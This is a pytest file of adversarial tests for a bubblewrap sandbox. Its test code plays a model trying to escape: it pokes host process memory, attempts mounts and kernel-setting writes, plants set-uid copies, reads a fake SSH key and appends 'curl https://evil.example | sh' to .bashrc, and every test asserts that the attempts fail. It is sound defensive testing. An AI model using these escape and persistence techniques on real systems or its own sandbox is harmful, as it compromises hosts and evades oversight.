"""Adversarial tests for the sandbox boundary (issue 10).

Every test plays a hostile model: the attack is code handed to the sandbox (``exec_sync``, a shell
request or the ``run_python`` action), written the way a model that wants out would write it. Each
asserts that the attack fails, that the host saw no effect, and that the failure was reported.

The attacks run as root (CI) and, where the host's identity matters, also as an ordinary user (the
usual laptop): a dedicated user ``tea-boundary-test`` plays the host through ``boundary_host.py``.
Without bubblewrap the boundary tests skip, saying why, or fail when ``TEA_REQUIRE_BUBBLEWRAP=1``.
Sleeps and limits are small: the file runs in well under two minutes.
"""

from __future__ import annotations

import os

os.environ["LITELLM_LOCAL_MODEL_COST_MAP"] = "True"

import ast  # noqa: E402
import asyncio  # noqa: E402
import dataclasses  # noqa: E402
import json  # noqa: E402
import pwd  # noqa: E402
import re  # noqa: E402
import select  # noqa: E402
import shutil  # noqa: E402
import signal  # noqa: E402
import socket  # noqa: E402
import sqlite3  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import sysconfig  # noqa: E402
import tempfile  # noqa: E402
import textwrap  # noqa: E402
import threading  # noqa: E402
import time  # noqa: E402
import uuid  # noqa: E402
import warnings  # noqa: E402
from pathlib import Path  # noqa: E402
from typing import Any  # noqa: E402

import pytest  # noqa: E402
from child_processes import alive  # noqa: E402

from tea_notebook.envs import boundary, sandbox  # noqa: E402
from tea_notebook.envs.base import EnvironmentFailure  # noqa: E402
from tea_notebook.envs.sandbox import PythonSandbox, _descendants  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
HOST_SCRIPT = Path(__file__).with_name("boundary_host.py")
TEST_USER = "tea-boundary-test"
FAKE_KEY = "sk-proj-boundary-FAKE-9f8e7d6c5b4a3210ZYXWVU"
AS_ROOT = os.geteuid() == 0
SANDBOX_OPTIONS = {"timeout": 10, "memory_mb": 1024, "processes": 32, "file_mb": 64, "isolation": "bubblewrap"}


# -- helpers --------------------------------------------------------------------------------------
def program(body: str, **values: Any) -> str:
    """Attack code: ``values`` become variables at its top (as literals), then ``body``."""
    prelude = "".join(f"{name} = {value!r}\n" for name, value in values.items())
    return prelude + textwrap.dedent(body)


def report_of(value: str | None) -> Any:
    """The JSON report an attack returns as its last expression (``json.dumps(...)``)."""
    assert value is not None, "the attack returned no report"
    return json.loads(ast.literal_eval(value))


def act(sb: PythonSandbox, name: str, **args: Any) -> str:
    """One action the way ECP runs it; failures raise EnvironmentFailure."""
    return asyncio.run(sb.call(name, args))


def cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def child_env() -> dict[str, str]:
    """This process's environment for a Python child that imports tea_notebook from this repository."""
    path = os.pathsep.join([str(ROOT), *filter(None, [os.environ.get("PYTHONPATH")])])
    return {**os.environ, "PYTHONPATH": path, "LITELLM_LOCAL_MODEL_COST_MAP": "True"}


def require_bubblewrap(reason: str) -> None:
    """Skip (saying why) or, when CI demands the real boundary, fail."""
    print(f"boundary tests: {reason}", file=sys.stderr)
    if os.environ.get("TEA_REQUIRE_BUBBLEWRAP") == "1":
        pytest.fail(f"{reason}, and TEA_REQUIRE_BUBBLEWRAP=1 demands the real boundary")
    pytest.skip(reason)


@pytest.fixture
def bwrap() -> str:
    """The bwrap program; skip or fail (TEA_REQUIRE_BUBBLEWRAP=1) when bubblewrap cannot run here."""
    tool = boundary.bubblewrap()
    if tool is None:
        if os.environ.get("TEA_SANDBOX", "").lower() == "process":
            why = "TEA_SANDBOX=process is set"
        elif shutil.which("bwrap") is None:
            why = "bubblewrap is not installed (apt-get install bubblewrap)"
        else:
            why = "bubblewrap is installed but cannot make a sandbox here (user namespaces disabled?)"
        require_bubblewrap(f"no sandbox boundary to attack: {why}")
    return tool


@pytest.fixture
def make(tmp_path):
    """Sandboxes in tmp_path/<name> (tmp_path made 0700, like a private home); all killed at the end."""
    os.chmod(tmp_path, 0o700)
    made: list[PythonSandbox] = []

    def build(name: str = "run", **options: Any) -> PythonSandbox:
        sb = PythonSandbox(tmp_path / name, **{**SANDBOX_OPTIONS, **options})
        made.append(sb)
        return sb

    yield build
    for sb in made:
        sb.kill()


@pytest.fixture
def server():
    """A TCP server on 127.0.0.1 (a local service: a database, a Jupyter port, a metadata proxy).
    Yields its port and the list of (peer, first bytes) it accepted; closes itself after 60 s."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.05)
    seen: list[tuple[Any, bytes]] = []
    stop = threading.Event()

    def serve() -> None:
        deadline = time.monotonic() + 60
        try:
            while not stop.is_set() and time.monotonic() < deadline:
                try:
                    conn, peer = listener.accept()
                except socket.timeout:
                    continue
                conn.settimeout(1)
                try:
                    data = conn.recv(200)
                except OSError:
                    data = b""
                seen.append((peer, data))
                conn.close()
        finally:
            listener.close()

    thread = threading.Thread(target=serve, name="boundary-test-server", daemon=True)
    thread.start()
    yield listener.getsockname()[1], seen
    stop.set()
    thread.join(2)


# -- the host, as root and as an ordinary user ---------------------------------------------------
@dataclasses.dataclass
class Host:
    """Who starts the sandbox, with a home folder holding what a real home holds."""

    kind: str
    home: Path
    uid: int
    gid: int
    python: str
    env: dict[str, str]
    runs: int = 0

    @property
    def key(self) -> Path:
        return self.home / ".ssh" / "id_rsa"

    @property
    def bashrc(self) -> Path:
        return self.home / ".bashrc"

    @property
    def db(self) -> Path:
        return self.home / "ws" / "tea.db"

    def run_folder(self) -> Path:
        self.runs += 1
        folder = self.home / "ws" / "runs" / f"r{self.runs}"
        folder.mkdir(parents=True)
        self.own(folder.parent.parent)
        return folder

    def own(self, path: Path) -> None:
        """Hand what the test created to the host user."""
        if os.geteuid() == 0 and self.uid != 0:
            for folder, dirs, files in os.walk(path):
                for name in [folder, *(os.path.join(folder, n) for n in dirs + files)]:
                    os.lchown(name, self.uid, self.gid)

    def run(self, steps: list[dict[str, str]], egress_allow: list[str] | None = None, **options: Any) -> dict[str, Any]:
        """Start a sandbox as this host, run ``steps`` ({"code": ...} or {"shell": ...}); the report.
        ``egress_allow``: the allow list of the sandbox's egress policy."""
        folder = options.pop("folder", None) or self.run_folder()
        config = {"folder": str(folder), "steps": steps, "options": options}
        if egress_allow is not None:
            config["egress_allow"] = egress_allow
        return self.run_script(HOST_SCRIPT, config, timeout=90)

    def run_script(self, script: Path, config: dict[str, Any], timeout: float) -> dict[str, Any]:
        """Run a host script (``python SCRIPT CONFIG_JSON``) as this host user; its last line's JSON report."""
        switch = {}
        if self.uid != os.geteuid():
            switch = {"user": self.uid, "group": self.gid, "extra_groups": []}
        done = subprocess.run(
            [self.python, str(script), json.dumps(config)],
            capture_output=True,
            text=True,
            timeout=timeout,
            cwd=str(self.home),
            env=self.env,
            **switch,
        )
        assert done.returncode == 0, f"the host script failed as {self.kind}:\n{done.stderr[-3000:]}"
        report = json.loads(done.stdout.strip().splitlines()[-1])
        if "unavailable" in report:
            require_bubblewrap(f"bubblewrap cannot run for the {self.kind} host: {report['unavailable']}")
        assert report["uid"] == self.uid
        return report


def seed_home(home: Path) -> None:
    """What the attacks go after: an SSH key, a shell start-up file, a workspace database."""
    (home / ".ssh").mkdir(mode=0o700, parents=True, exist_ok=True)
    key = home / ".ssh" / "id_rsa"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-BOUNDARY-TEST-KEY\n-----END OPENSSH PRIVATE KEY-----\n")
    key.chmod(0o600)
    (home / ".bashrc").write_text("# the user's own start-up file\nexport PS1='$ '\n")
    (home / "ws").mkdir(exist_ok=True)
    with sqlite3.connect(home / "ws" / "tea.db") as db:
        db.execute("create table if not exists runs (id text)")
        db.execute("insert into runs values ('r1')")
    db.close()


def private_home(tmp_path: Path) -> Path:
    """A throw-away home folder inside this user's real one (/root for root), private (0700); in
    tmp_path when the real home is not writable."""
    try:
        return Path(tempfile.mkdtemp(prefix=".tea-boundary-home-", dir=pwd.getpwuid(os.geteuid()).pw_dir))
    except OSError:
        return Path(tempfile.mkdtemp(prefix="home-", dir=tmp_path))


_USER_PYTHON: dict[str, Any] = {}


def run_as_user(
    uid: int, gid: int, home: Path, python: str, env: dict[str, str], code: str
) -> subprocess.CompletedProcess:
    """``python -c code`` run as the user ``uid`` (no supplementary groups) in ``home``, with exactly
    ``env``; its text output (a minute at the most)."""
    return subprocess.run(
        [python, "-c", code],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=str(home),
        env=env,
        user=uid,
        group=gid,
        extra_groups=[],
    )


def user_python(uid: int, gid: int, home: Path) -> tuple[str, dict[str, str]]:
    """An interpreter the unprivileged user can run that imports tea_notebook from this repository
    (the venv's own interpreter may live where the user cannot go, e.g. under /root)."""
    if "found" in _USER_PYTHON:
        return _USER_PYTHON["found"]
    paths = dict.fromkeys([str(ROOT), sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]])
    env = {
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "HOME": str(home),
        "LANG": "C.UTF-8",
        "PYTHONPATH": os.pathsep.join(paths),
        "LITELLM_LOCAL_MODEL_COST_MAP": "True",
    }
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    candidates = [sys.executable, f"/usr/bin/python{version}", f"/usr/local/bin/python{version}"]
    problems = []
    check = f"import sys, tea_notebook.envs.sandbox; assert sys.version_info[:2] == {tuple(sys.version_info[:2])}"
    for python in dict.fromkeys(candidates):
        try:
            done = run_as_user(uid, gid, home, python, env, check)
        except OSError as exc:
            problems.append(f"{python}: {exc}")
            continue
        if done.returncode == 0:
            _USER_PYTHON["found"] = (python, env)
            return python, env
        problems.append(f"{python}: {done.stderr.strip().splitlines()[-1] if done.stderr.strip() else done.returncode}")
    reason = f"user {TEST_USER} cannot import tea_notebook from {ROOT} with any interpreter: " + "; ".join(problems)
    print(reason, file=sys.stderr)
    pytest.skip(reason)


def unprivileged_user() -> tuple[int, int, Path]:
    """The dedicated unprivileged user (created when missing)."""
    try:
        entry = pwd.getpwnam(TEST_USER)
    except KeyError:
        tool = shutil.which("useradd")
        if tool is None:
            reason = f"no user {TEST_USER} and no useradd to create one"
            print(reason, file=sys.stderr)
            pytest.skip(reason)
        done = subprocess.run([tool, "--create-home", TEST_USER], capture_output=True, text=True, timeout=30)
        if done.returncode != 0:
            reason = f"useradd {TEST_USER} failed: {done.stderr.strip()}"
            print(reason, file=sys.stderr)
            pytest.skip(reason)
        entry = pwd.getpwnam(TEST_USER)
    home = Path(entry.pw_dir)
    home.mkdir(parents=True, exist_ok=True)
    os.chown(home, entry.pw_uid, entry.pw_gid)
    os.chmod(home, 0o700)  # like a laptop's home
    return entry.pw_uid, entry.pw_gid, home


@pytest.fixture(params=["root", "user"])
def host(request, tmp_path, bwrap):
    """The host as root (CI; a throw-away home inside /root) and as an ordinary user (the laptop: a
    dedicated user when the tests run as root, else the user running them, in a throw-away home)."""
    os.chmod(tmp_path, 0o700)
    env = child_env()
    if request.param == "root" and not AS_ROOT:
        pytest.skip("the root host needs the tests to run as root")
    if request.param == "root" or not AS_ROOT:  # this process is the host: a fake home in its real one
        home = private_home(tmp_path)
        env["HOME"] = str(home)
        try:
            seed_home(home)
            yield Host(request.param, home, os.geteuid(), os.getegid(), sys.executable, env)
        finally:
            shutil.rmtree(home, ignore_errors=True)
        return
    uid, gid, home = unprivileged_user()
    python, env = user_python(uid, gid, home)
    created = [home / ".ssh", home / "ws"]
    bashrc = home / ".bashrc"
    original = bashrc.read_bytes() if bashrc.exists() else None
    for path in created:
        shutil.rmtree(path, ignore_errors=True)
    seed_home(home)
    user = Host("user", home, uid, gid, python, env)
    user.own(home)
    try:
        yield user
    finally:
        for path in created:
            shutil.rmtree(path, ignore_errors=True)
        if original is None:
            bashrc.unlink(missing_ok=True)
        else:
            bashrc.write_bytes(original)


# == 1. root without a user namespace =============================================================
IDENTITY = """
import ctypes, json, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)

def call(fn, *args):
    ctypes.set_errno(0)
    return [fn(*args), ctypes.get_errno()]

status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
os.makedirs("/tmp/mnt", exist_ok=True)
report = {
    "ids": [os.getuid(), os.geteuid(), os.getgid(), os.getegid(), *os.getgroups()],
    "caps": {k: int(status[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")},
    "no_new_privs": status["NoNewPrivs"].strip(),
    "umount2": call(libc.umount2, b"/proc", 2),
    "mount_tmpfs": call(libc.mount, b"none", b"/tmp/mnt", b"tmpfs", 0, None),
    "mount_proc": call(libc.mount, b"proc", b"/tmp/mnt", b"proc", 0, None),
}
shell = subprocess.run(
    "umount /proc; echo umount=$?; umount -l /proc; echo lazy=$?; "
    "mount -t tmpfs none /tmp/mnt; echo tmpfs=$?; mount -t proc proc /tmp/mnt; echo proc=$?",
    shell=True, capture_output=True, text=True,
)
report["shell"] = shell.stdout + shell.stderr
report["mounts"] = open("/proc/self/mounts").read()
report["proc_still_there"] = os.path.exists("/proc/self/status")
json.dumps(report)
"""


@pytest.mark.skipif(not AS_ROOT, reason="the attack is on a sandbox started by root")
def test_root_sandbox_runs_as_nobody_without_capabilities_and_cannot_mount(bwrap, make, tmp_path):
    sb = make()
    assert tmp_path.stat().st_mode & 0o777 == 0o700  # the run folder is private, as in the report
    result = sb.exec_sync(IDENTITY)
    assert result.ok, result.text()
    report = report_of(result.value)
    assert sb.boundary.mechanism == "bubblewrap" and sb.boundary.uid == 65534
    assert set(report["ids"]) == {65534}, f"the sandbox runs with ids {report['ids']}"
    assert report["caps"] == dict.fromkeys(("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"), 0)
    assert report["no_new_privs"] == "1"
    for attempt in ("umount2", "mount_tmpfs", "mount_proc"):
        assert report[attempt][0] == -1 and report[attempt][1] in (1, 13), (attempt, report[attempt])
    codes = dict(re.findall(r"^(\w+)=(\d+)$", report["shell"], re.M))
    assert set(codes) == {"umount", "lazy", "tmpfs", "proc"} and "0" not in codes.values(), report["shell"]
    assert report["proc_still_there"] and " /tmp/mnt " not in report["mounts"]
    # and it did not stay root in the fallback's way either
    assert "AS ROOT" not in sb.state() and "bubblewrap: uid 65534" in sb.state()


VIEW = """
import json, os
processes = {}
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            processes[entry] = open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace")
        except OSError as exc:
            processes[entry] = "unreadable: " + exc.strerror
environ = {}
for entry in [*processes, *map(str, OUTSIDE)]:
    try:
        environ[entry] = FAKE in open(f"/proc/{entry}/environ", "rb").read().decode(errors="replace")
    except OSError as exc:
        environ[entry] = exc.strerror
json.dumps({"processes": processes, "environ": environ, "ppid": os.getppid(), "env": dict(os.environ)})
"""


@pytest.fixture
def victim():
    """A long-lived host process holding a variable; each line on its stdin makes it print the
    variable. Yields (process, address of the variable's bytes)."""
    code = textwrap.dedent(
        """
        import ctypes, sys
        secret = bytearray(b"HOST-VARIABLE-UNTOUCHED")
        view = (ctypes.c_char * len(secret)).from_buffer(secret)
        print(ctypes.addressof(view), flush=True)
        for line in sys.stdin:
            print(bytes(secret).decode(errors="replace"), flush=True)
        """
    )
    proc = subprocess.Popen(
        [sys.executable, "-I", "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    address = int(proc.stdout.readline())
    yield proc, address
    proc.kill()
    proc.wait(5)


def ask(proc: subprocess.Popen) -> str:
    proc.stdin.write("?\n")
    proc.stdin.flush()
    ready, _, _ = select.select([proc.stdout], [], [], 5)
    assert ready, "the victim process did not answer"
    return proc.stdout.readline().strip()


@pytest.mark.skipif(not AS_ROOT, reason="the attack is on a sandbox started by root")
def test_root_sandbox_sees_no_host_process_and_no_parent_environment(bwrap, make, monkeypatch, victim):
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)  # in the environment of the process that starts it
    proc, _ = victim
    sb = make()
    assert sb.exec_sync("1").value == "1"
    ours = [sb.pid, *_descendants(sb.pid)]
    outside = [os.getpid(), os.getppid(), proc.pid, *ours]
    result = sb.exec_sync(program(VIEW, OUTSIDE=outside, FAKE=FAKE_KEY))
    assert result.ok, result.text()
    report = report_of(result.value)
    assert FAKE_KEY not in json.dumps(report["env"]) and "OPENAI_API_KEY" not in report["env"]
    leaked = [pid for pid, found in report["environ"].items() if found is True]
    assert leaked == [], f"the fake API key is readable in /proc/{leaked}/environ"
    for pid in map(str, outside):  # the host's pids (the test process, its parent, the victim, the
        if pid not in report["processes"]:  # sandbox's own host pids) are not there at all
            assert report["environ"][pid] == "No such file or directory", (pid, report["environ"][pid])
    # every process in view is one of the sandbox's own (same command lines as seen from the host)
    seen_inside = report["processes"]
    own_commands = {cmdline(pid) for pid in ours}
    strangers = {pid: cmd for pid, cmd in seen_inside.items() if cmd not in own_commands}
    assert strangers == {}, f"processes outside the sandbox are visible inside: {strangers}"
    assert len(seen_inside) <= len(ours)
    for host_process in (os.getpid(), os.getppid(), proc.pid):
        assert cmdline(host_process) not in seen_inside.values()
    assert report["ppid"] < 10  # its parent is the in-sandbox supervisor, not the test process


POKE = """
import json, os

def poke(pid):
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError as exc:
        return exc.strerror
    try:
        os.pwrite(fd, b"PWNED", ADDRESS)
        return "WROTE"
    except OSError as exc:
        return "opened, then " + exc.strerror
    finally:
        os.close(fd)

json.dumps({str(pid): poke(pid) for pid in TARGETS if pid != os.getpid()})
"""


@pytest.mark.skipif(not AS_ROOT, reason="the attack is on a sandbox started by root")
def test_root_sandbox_cannot_write_into_host_process_memory(bwrap, make, victim):
    proc, address = victim
    sb = make()
    assert sb.exec_sync("1").value == "1"
    # the victim, the test process, and every pid number of the sandbox as seen from outside
    targets = [proc.pid, os.getpid(), sb.pid, *_descendants(sb.pid)]
    result = sb.exec_sync(program(POKE, TARGETS=targets, ADDRESS=address))
    assert result.ok, result.text()
    attempts = report_of(result.value)
    assert "WROTE" not in attempts.values(), attempts
    assert attempts[str(proc.pid)] == attempts[str(os.getpid())] == "No such file or directory"
    assert ask(proc) == "HOST-VARIABLE-UNTOUCHED"
    # the same code outside the sandbox does change the variable: the attack itself is real
    scope = Path("/proc/sys/kernel/yama/ptrace_scope")
    if scope.exists() and scope.read_text().strip() == "3":
        return  # ptrace (and /proc/<pid>/mem) is off for everyone here
    outside = subprocess.run(
        [sys.executable, "-I", "-c", program(POKE, TARGETS=[proc.pid], ADDRESS=address)],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert ask(proc) == "PWNEDVARIABLE-UNTOUCHED", outside.stderr


KERNEL_SETUP = """
import ctypes, json, os
import tea_notebook
from ipykernel.connect import get_connection_info
_ws = tea_notebook.Workspace(WS, embedder="hashing")
_ws.envs.ensure("python")
scores = [3, 1, 2]
secret = bytearray(b"KERNEL-VARIABLE-UNTOUCHED")
_view = (ctypes.c_char * len(secret)).from_buffer(secret)
print("@@" + json.dumps({"pid": os.getpid(), "address": ctypes.addressof(_view),
                         "connection": json.loads(get_connection_info())}))
"""

KERNEL_ATTACK = """
import json, os, socket, time
report = {"poke": {}, "ports": {}}
for pid in {KERNEL, os.getppid(), 1}:
    if pid == os.getpid():
        continue
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError as exc:
        report["poke"][pid] = exc.strerror
        continue
    report["poke"][pid] = "opened"
    if pid == KERNEL:
        try:
            os.pwrite(fd, b"PWNED", ADDRESS)
            report["poke"][pid] = "WROTE"
        except OSError as exc:
            report["poke"][pid] += ", then " + exc.strerror
    os.close(fd)
for name, port in CONNECTION.items():
    if name.endswith("_port"):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            report["ports"][name] = "connected"
        except OSError as exc:
            report["ports"][name] = exc.strerror or str(exc)
if "connected" in report["ports"].values():  # with the key: have the kernel change its own variables
    from jupyter_client import BlockingKernelClient
    client = BlockingKernelClient()
    client.load_connection_info(CONNECTION)
    client.start_channels()
    client.execute("scores.clear(); secret[:5] = b'PWNED'")
    time.sleep(1)
    client.stop_channels()
json.dumps(report)
"""


@pytest.mark.slow
@pytest.mark.skipif(not AS_ROOT, reason="the attack is on a sandbox started by root")
def test_a_real_kernel_variable_cannot_be_changed_from_the_python_environment(bwrap, tmp_path):
    """The python environment of a workspace opened in a real Jupyter kernel, without the
    kernel.write grant, goes after the kernel's variables: through /proc/<kernel>/mem and through
    the kernel's own ZMQ ports on 127.0.0.1 (given the connection key, as if it had leaked)."""
    pytest.importorskip("jupyter_client")
    pytest.importorskip("ipykernel")
    from jupyter_client import KernelManager
    from jupyter_client.kernelspec import KernelSpecManager

    os.chmod(tmp_path, 0o700)
    specs = tmp_path / "specs" / "tea-boundary-kernel"
    specs.mkdir(parents=True)
    argv = [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"]
    (specs / "kernel.json").write_text(json.dumps({"argv": argv, "language": "python"}))
    km = KernelManager(
        kernel_name="tea-boundary-kernel", kernel_spec_manager=KernelSpecManager(kernel_dirs=[str(specs.parent)])
    )
    (tmp_path / "cwd").mkdir()
    km.start_kernel(env={**os.environ, "LITELLM_LOCAL_MODEL_COST_MAP": "True"}, cwd=str(tmp_path / "cwd"))
    kc = km.client()
    kc.start_channels()

    def run(code: str) -> str:
        out: list[str] = []
        reply = kc.execute_interactive(
            code,
            timeout=60,
            output_hook=lambda msg: out.append(msg["content"].get("text", "")) if msg["msg_type"] == "stream" else None,
        )
        assert reply["content"]["status"] == "ok", reply["content"]
        return "".join(out)

    try:
        kc.wait_for_ready(timeout=60)
        setup = run(program(KERNEL_SETUP, WS=str(tmp_path / "ws")))
        info = json.loads(next(line for line in setup.splitlines() if line.startswith("@@"))[2:])
        attack = program(KERNEL_ATTACK, KERNEL=info["pid"], ADDRESS=info["address"], CONNECTION=info["connection"])
        out = run(
            f"_r = _ws.envs.invoke('python', 'run_python', {{'code': {attack!r}}})\n"
            "print('@@' + json.dumps([_r.ok, _r.value, _r.error]))"
        )
        ok, value, error = json.loads(next(line for line in out.splitlines() if line.startswith("@@"))[2:])
        assert ok, error
        report = json.loads(ast.literal_eval(value.removeprefix("value: ").split("\n")[0]))
        assert report["poke"][str(info["pid"])] == "No such file or directory", report
        assert "connected" not in report["ports"].values(), report
        after = run("print('@@' + json.dumps([scores, bytes(secret).decode()]))")
        assert json.loads(after.strip()[2:]) == [[3, 1, 2], "KERNEL-VARIABLE-UNTOUCHED"]
        run("_ws.close()")
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)


# A sandbox started by root is uid 65534 inside, but that uid maps to host uid 0: whatever the kernel
# grants by uid rather than by capability, it grants the sandbox.
SYSCTL = """
import json, os
out = {}
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/randomize_va_space",
             "/proc/sys/fs/protected_symlinks", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger"):
    try:
        current = None if path.endswith("trigger") else open(path, "rb").read()
    except OSError:
        current = None
    try:
        fd = os.open(path, os.O_WRONLY)
    except OSError as exc:
        out[path] = exc.strerror
        continue
    try:
        if current is None:
            out[path] = "OPENED FOR WRITING"  # never written: it would act on the machine
        else:
            os.write(fd, current)  # the value it already has: nothing changes even when this works
            out[path] = "WROTE"
    except OSError as exc:
        out[path] = "opened, then " + exc.strerror
    finally:
        os.close(fd)
writable = []
for folder, _, files in os.walk("/proc/sys"):
    for name in files:
        path = os.path.join(folder, name)
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            writable.append(path)
        except OSError:
            pass
out["writable"] = writable
json.dumps(out)
"""


# settings that belong to the sandbox's own namespaces (IPC, UTS, user, PID; network when it has its own)
OWN_SYSCTLS = (
    "/proc/sys/fs/mqueue/", "/proc/sys/kernel/msg", "/proc/sys/kernel/sem", "/proc/sys/kernel/shm",
    "/proc/sys/kernel/auto_msgmni", "/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname",
    "/proc/sys/kernel/ns_last_pid", "/proc/sys/user/",
)  # fmt: skip


@pytest.mark.parametrize("network", [False, True], ids=["no-network", "network"])
def test_sandbox_cannot_change_host_kernel_settings(host, network):
    """/proc/sys is global to the machine: /proc/sys/kernel/core_pattern = '|/path/in/run/folder'
    would make the kernel run a program of the sandbox's as real root on the next crash. With
    network=True the sandbox keeps its own network namespace (its way out is the egress proxy), so
    its network settings are its own in both cases."""
    report = host.run([{"code": SYSCTL}], network=network, max_output=500_000)
    [result] = report["results"]
    assert result["error"] is None, result["text"]
    out = report_of(result["value"])
    writable = out.pop("writable")
    assert not any(v in ("WROTE", "OPENED FOR WRITING") for v in out.values()), (
        f"as {host.kind}: host kernel settings writable from inside the sandbox: {out}"
    )
    own = (*OWN_SYSCTLS, "/proc/sys/net/")
    hosts = [path for path in writable if not path.startswith(own)]
    assert hosts == [], f"as {host.kind}: {len(hosts)} host sysctls writable, e.g. {hosts[:8]}"


# the probes' helper: run fn, record "ok" or the OSError's message under name in out
ATTEMPT = """out = {}

def attempt(name, fn):
    try:
        fn()
        out[name] = "ok"
    except OSError as exc:
        out[name] = exc.strerror
"""

SETUID = (
    """
import json, os, shutil
"""
    + ATTEMPT
    + """
shutil.copy("/usr/bin/id", "id-copy")
attempt("chmod", lambda: os.chmod("id-copy", 0o6755))
fd = os.open("id-copy", os.O_RDONLY)
attempt("fchmod", lambda: os.fchmod(fd, 0o4755))
os.close(fd)
here = os.open(".", os.O_RDONLY)
attempt("fchmodat", lambda: os.chmod("id-copy", 0o2755, dir_fd=here))
os.close(here)
# set-id bits at creation (test_host_writers.py tries every call that takes a mode)
attempt("create set-id", lambda: os.close(os.open("id-made", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o6755)))
attempt("plain chmod", lambda: os.chmod("id-copy", 0o750))  # what programs do every day still works
json.dumps(out)
"""
)


def test_sandbox_cannot_leave_set_uid_programs_for_the_host(host):
    """A program the sandbox leaves in the run folder must not run as the host user for whoever
    starts it on the host (for a root host: any local user becomes root)."""
    folder = host.run_folder()
    report = host.run([{"code": SETUID}], folder=folder)
    [result] = report["results"]
    assert result["error"] is None, result["text"]
    out = report_of(result["value"])
    left = {path: path.stat() for path in (folder / "sandbox").glob("id-*")}
    try:
        assert len(left) == 1
        set_id = {str(p): (oct(st.st_mode & 0o7777), st.st_uid) for p, st in left.items() if st.st_mode & 0o6000}
        assert set_id == {}, (
            f"as {host.kind}: the sandbox left set-id programs (mode, owner uid) {set_id}: anyone who can reach "
            f"the run folder runs them as that uid ({out})"
        )
        assert out["plain chmod"] == "ok" and left[folder / "sandbox" / "id-copy"].st_mode & 0o7777 == 0o750
        refused = {k: v for k, v in out.items() if k != "plain chmod" and v != "Operation not permitted"}
        assert refused == {}, f"set-id mode changes not refused (and so not reported): {refused}"
    finally:
        for path in left:
            path.unlink()


# == 2. the ordinary user's (and root's) files and local services =================================
FILES = """
import json, os, socket, sqlite3
report = {}

def attempt(name, fn):
    try:
        report[name] = ["ok", fn()]
    except Exception as exc:
        report[name] = [type(exc).__name__, str(exc)]

def write(target):
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "w") as fh:
        fh.write("written from the sandbox")
    return os.path.getsize(target)

def sql():
    db = sqlite3.connect(DB)
    db.execute("create table pwned (x)")
    db.commit()
    return "committed"

def connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
        conn.sendall(b"hello from the sandbox")
    return "connected"

report["visible"] = {p: os.path.exists(p) for p in (KEY, os.path.dirname(KEY), BASHRC, DB)}
report["home"] = sorted(os.listdir(HOME)) if os.path.isdir(HOME) else None
attempt("read key", lambda: open(KEY).read())
attempt("append .bashrc", lambda: open(BASHRC, "a").write("curl https://evil.example | sh\\n"))
attempt("open tea.db for writing", lambda: open(DB, "r+b").write(b"x"))
attempt("write tea.db with sqlite", sql)
for target in OUTSIDE + PRIVATE:
    attempt("write " + target, lambda t=target: write(t))
attempt("connect", connect)
json.dumps(report)
"""


def test_home_secrets_workspace_and_local_services_are_out_of_reach(host, server):
    port, seen = server
    marker = f"tea-boundary-{uuid.uuid4().hex[:10]}"
    before = {p: p.read_bytes() for p in (host.key, host.bashrc, host.db)}
    # places the host user can write: its home, next to the workspace database, /var/tmp, the repository
    outside = [
        str(host.home / marker),
        str(host.db.parent / marker),
        f"/var/tmp/{marker}",
        str(ROOT / marker),
        f"/{marker}",
        f"/etc/{marker}",
    ]
    private = [f"/tmp/{marker}", f"/dev/shm/{marker}"]  # the sandbox's own, not the host's
    private += [t for t in outside if t.startswith("/tmp/")]  # a home under /tmp: inside, the private /tmp
    outside = [t for t in outside if t not in private]
    code = program(
        FILES,
        KEY=str(host.key),
        BASHRC=str(host.bashrc),
        DB=str(host.db),
        HOME=str(host.home),
        PORT=port,
        OUTSIDE=outside,
        PRIVATE=private,
    )
    report = host.run([{"code": code}])
    [result] = report["results"]
    assert result["error"] is None, result["text"]
    assert report["boundary"]["mechanism"] == "bubblewrap" and report["boundary"]["network"] is False
    out = report_of(result["value"])
    appeared = [p for p in outside + private if os.path.lexists(p)]
    for path in appeared:  # clean up before asserting
        os.unlink(path)
    assert not any(out["visible"].values()), f"as {host.kind}: visible inside: {out['visible']}"
    assert out["home"] in (None, ["ws"]), f"as {host.kind}: the home folder's contents are visible: {out['home']}"
    for name in ("read key", "append .bashrc", "open tea.db for writing", "write tea.db with sqlite"):
        assert out[name][0] != "ok", f"as {host.kind}: {name} worked: {out[name]}"
    assert {p: p.read_bytes() for p in before} == before
    assert appeared == [], f"as {host.kind}: the sandbox wrote onto the host: {appeared}"
    succeeded = {t: out["write " + t] for t in outside if out["write " + t][0] == "ok"}
    assert succeeded == {}, f"as {host.kind}: writes outside the run folder did not fail: {succeeded}"
